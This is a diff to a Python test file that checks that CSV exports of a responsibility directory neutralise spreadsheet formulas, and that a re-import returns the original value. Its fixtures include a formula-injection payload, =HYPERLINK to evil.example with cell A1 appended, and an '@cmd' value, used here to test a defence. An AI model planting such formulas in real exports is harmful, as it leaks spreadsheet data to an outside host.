@@ -312,9 +312,12 @@ def test_the_compliance_csv_neutralises_formulas() -> None:
     assert rows[1][5] == "'" + FORMULA and rows[1][7] == "'-5"
 
 
-def test_the_raci_csv_neutralises_formulas_and_the_export_keeps_them(
-        server: LiveServer, org: GraphHandle, tmp_path: Path) -> None:
-    """A responsibility named ``=HYPERLINK(...)`` went into /raci.csv as is."""
+def test_the_raci_csv_neutralises_formulas_and_the_export_escapes_them_reversibly(
+        server: LiveServer, org: GraphHandle, engine: EmbeddedEngine, loop_thread: LoopThread,
+        tmp_path: Path) -> None:
+    """A responsibility named ``=HYPERLINK(...)`` went into /raci.csv as is. The interchange
+    export writes it with one more leading quote (safe to open in Excel), and importing the
+    export gives the value back unchanged."""
     c = server.client
     data(c, "mutation($n: String!) { createResponsibility(input: {id: \"RF1\", name: $n, "
             "process: \"@cmd\"}) { id } }", n=FORMULA)
@@ -327,6 +330,13 @@ def test_the_raci_csv_neutralises_formulas_and_the_export_keeps_them(
     assert row[1:3] == ["'" + FORMULA, "'@cmd"]
     org.run(lambda g: export_directory(g, tmp_path))
     exported = (tmp_path / "responsibilities.csv").read_text(encoding="utf-8")
-    assert 'RF1,"=HYPERLINK(""http://evil.example/?""&A1,""点击"")",,@cmd\n' in exported
+    assert 'RF1,"\'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",,\'@cmd\n' in exported
     assert gql(c, '{ responsibility(id: "RF1") { name } }')["data"]["responsibility"] == \
         {"name": FORMULA}
+    other = new_database(engine, loop_thread)
+    try:
+        other.import_dir(tmp_path)
+        assert other.read("MATCH (r:Responsibility {id: 'RF1'}) RETURN r.name AS name, "
+                          "r.process AS process") == [{"name": FORMULA, "process": "@cmd"}]
+    finally:
+        other.close()
